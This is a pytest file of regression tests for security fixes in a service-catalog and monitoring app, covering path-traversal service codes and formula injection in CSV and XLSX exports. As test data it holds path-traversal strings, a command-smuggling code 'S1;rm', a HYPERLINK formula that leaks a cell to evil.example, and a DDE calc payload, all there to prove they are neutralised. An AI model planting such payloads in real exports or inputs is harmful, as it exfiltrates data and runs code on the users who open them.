"""The security defects of issue 14, one test (or more) each; every one failed before its fix.

docs/security.md lists what is defended and which test shows it.
"""
from __future__ import annotations

import dataclasses
import io
import zipfile

import pytest
import yaml
from sqlalchemy import select

from monitor import open_data
from monitor.extensions import db
from services_catalog import CatalogError, load_catalog

from .catalogs import service, write_catalog


# ------------------------------------------------ 1. service codes cannot be paths

@pytest.mark.parametrize("code", ["../x", "/tmp/x", "a/b", "..", "a\\b", "x.yaml", "S1;rm"])
def test_a_service_code_that_could_be_a_path_is_refused(tmp_path, code):
    folder = write_catalog(tmp_path / "catalog", services=[service("S1")])
    (folder / "services" / "evil.yaml").write_text(yaml.safe_dump(service(code), allow_unicode=True))
    with pytest.raises(CatalogError) as error:
        load_catalog(folder)
    assert any(p.field == "code" and "must match" in p.reason for p in error.value.problems), error.value


def test_catalog_validate_reports_the_bad_code(app, tmp_path):
    folder = write_catalog(tmp_path / "catalog", services=[service("S1")])
    (folder / "services" / "evil.yaml").write_text(yaml.safe_dump(service("../../x")))
    result = app.test_cli_runner().invoke(args=["catalog", "validate", str(folder)])
    assert result.exit_code == 1 and "'../../x' must match" in result.output


def test_the_catalog_zip_is_built_in_memory(loaded_catalog, client, tmp_path, monkeypatch):
    import tempfile

    def no_temporary_folders(*args, **kwargs):
        raise AssertionError("the ZIP must not touch the file system")
    monkeypatch.setattr(tempfile, "TemporaryDirectory", no_temporary_folders)
    monkeypatch.setattr(tempfile, "mkdtemp", no_temporary_folders)
    response = client.get("/open-data/catalog.zip")
    assert response.status_code == 200
    names = zipfile.ZipFile(io.BytesIO(response.data)).namelist()
    assert names == ["documents.yaml"] + sorted(f"services/{p.name}" for p in (loaded_catalog / "services").iterdir())


def test_a_stored_code_that_is_a_path_never_writes_a_file(loaded_catalog, tmp_path, monkeypatch):
    """Even a catalog object with such a code (data from before the fix) writes nothing."""
    catalog = load_catalog(loaded_catalog)
    evil = dataclasses.replace(catalog.services["S1"], code=f"../{tmp_path.name}/escaped")
    bad = dataclasses.replace(catalog, services={**catalog.services, evil.code: evil})
    monkeypatch.chdir(tmp_path)
    with pytest.raises(ValueError, match="cannot name"):
        open_data.catalog_zip(bad)
    assert not list(tmp_path.parent.glob("**/escaped.yaml"))


# ------------------------------------------------ 5. exports never hold live formulas

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_cells_starting_like_a_formula_become_text():
    from monitor.cells import safe_cell
    assert [safe_cell(v) for v in ("=1+1", "+7 701", "-2", "@SUM(A1)", "\tx", "ok", 5, -3.5, None)] == \
        ["'=1+1", "'+7 701", "'-2", "'@SUM(A1)", "'\tx", "ok", 5, -3.5, None]


def test_report_and_findings_exports_hold_no_formulas(app, people, client, login, loaded_catalog, tmp_path):
    import datetime as dt

    import openpyxl
    import pandas as pd

    from monitor.synthetic import generate_visits
    frame = generate_visits(load_catalog(loaded_catalog), visits=400, start=dt.date(2026, 3, 16), days=5,
                            offices=["OF1"], breach_rate=0.3)
    frame["staff_id"] = FORMULA
    frame.to_csv(tmp_path / "v.csv", index=False)
    runner = app.test_cli_runner()
    assert runner.invoke(args=["visits", "import", str(tmp_path / "v.csv")]).exit_code == 0
    assert runner.invoke(args=["findings", "sweep", "--as-of", "2026-04-30T00:00"]).exit_code == 0
    login("admin")
    workbook = openpyxl.load_workbook(io.BytesIO(client.get("/supervisor/report.xlsx?week=2026-W12").data))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert any(cell.value == "'" + FORMULA for cell in cells)  # the staff sheet still names them
    text = client.get("/supervisor/report.csv?week=2026-W12").get_data(as_text=True)
    assert "'" + FORMULA.replace('"', '""') in text
    assert not [line for line in text.splitlines() if any(cell.startswith(("=", "@", "+"))
                                                           for cell in line.split(","))]
    assert runner.invoke(args=["findings", "export", str(tmp_path / "f.csv")]).exit_code == 0
    exported = pd.read_csv(tmp_path / "f.csv", dtype=str, keep_default_na=False)
    assert not exported.map(lambda v: v.startswith(("=", "+", "-", "@"))).any().any()


def test_the_public_catalog_csv_holds_no_formulas(app, client, tmp_path):
    from monitor.catalog_store import store_catalog
    folder = write_catalog(tmp_path / "catalog", services=[
        service("S1", name={"kk": "=cmd|' /C calc'!A0", "ru": "@SUM(1+1)", "en": "+1 service"})])
    store_catalog(db.session, load_catalog(folder))
    db.session.commit()
    text = client.get("/open-data/catalog.csv").get_data(as_text=True)
    assert "'=cmd" in text and "'@SUM(1+1)" in text and "'+1 service" in text
